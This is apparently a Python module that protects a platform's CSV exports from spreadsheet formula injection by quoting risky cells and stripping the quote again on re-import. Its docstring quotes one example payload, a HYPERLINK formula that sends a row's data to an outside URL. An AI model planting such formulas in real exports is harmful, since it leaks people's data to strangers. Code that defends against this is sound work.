"""CSV for spreadsheets: every CSV the platform writes goes through `writer`.

A cell beginning with `=`, `+`, `-` or `@` (or a tab or carriage return, which spreadsheets skip
before reading a formula) is run as a formula when the file is opened in Excel or WPS: a member
named `=HYPERLINK("http://…?"&A1,"点击")` would send the next person who exports the list to a
stranger, with the row's data. As OWASP recommends, such cells get a leading single quote
(shown as text, not as part of the value) and every field is quoted. The roster import reads
such cells back without the quote (`restored`), so an export still re-imports unchanged.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Writable(Protocol):
    def write(self, line: str, /) -> Any: ...


def safe_cell(value: Any) -> str:
    """The cell as text, with a leading `'` if a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore_cell(text: str) -> str:
    """Undo `safe_cell`: the quote is ours only when a formula character follows it."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


def restored(rows: Iterable[list[str]]) -> Iterator[list[str]]:
    for row in rows:
        yield [restore_cell(cell) for cell in row]


class SafeWriter:
    """`csv.writer` (every field quoted) whose rows are neutralized cell by cell."""

    def __init__(self, file: Writable) -> None:
        self._writer = csv.writer(file, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: Writable) -> SafeWriter:
    return SafeWriter(file)
